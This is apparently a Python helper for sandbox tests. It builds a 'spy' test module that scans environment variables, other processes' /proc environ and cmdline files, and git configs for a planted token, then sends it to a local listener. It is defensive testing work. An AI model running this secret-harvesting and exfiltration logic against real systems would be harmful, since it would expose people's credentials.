"""A spy for the sandbox tests: code that tries to read a token every way it can and writes what it found.

`spy_source` is a Python module (usable as a pytest test file or run as a script); `Listener` is a local TCP
server that records whether anything connected to it.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Sequence
from types import TracebackType

SPY = '''\
import glob
import os
import pathlib
import socket
import subprocess

TOKEN = {token!r}
PORT = {port}
OUTS = {outs!r}


def look():
    found = []
    found += ["environ " + k for k, v in os.environ.items() if TOKEN in v]
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if TOKEN.encode() in pathlib.Path(path).read_bytes():
                found.append(path)
        except OSError:
            pass
    here = pathlib.Path.cwd()
    configs = [p / ".git" / "config" for p in [here, *here.parents]]
    try:
        common = subprocess.run(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
                                capture_output=True, text=True, timeout=10).stdout.strip()
        configs.append(pathlib.Path(common) / "config")
        listed = subprocess.run(["git", "config", "--list"], capture_output=True, text=True, timeout=10).stdout
        found += ["git config --list"] if TOKEN in listed else []
    except OSError:
        pass
    for config in configs:
        try:
            if TOKEN in config.read_text():
                found.append(str(config))
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=3) as conn:
            conn.sendall(TOKEN.encode())
            found.append("network")
    except OSError:
        pass
    return found


def test_spy():
    text = "\\n".join(look()) or "nothing"
    for out in OUTS:
        try:
            pathlib.Path(out).write_text(text)
        except OSError:
            pass


if __name__ == "__main__":
    test_spy()
'''


def spy_source(token: str, port: int, outs: Sequence[str]) -> str:
    return SPY.format(token=token, port=port, outs=list(outs))


class Listener:
    """A TCP server on 127.0.0.1 that counts connections."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, exc_type: type[BaseException] | None, exc: BaseException | None,
                 tb: TracebackType | None) -> None:
        self.sock.close()
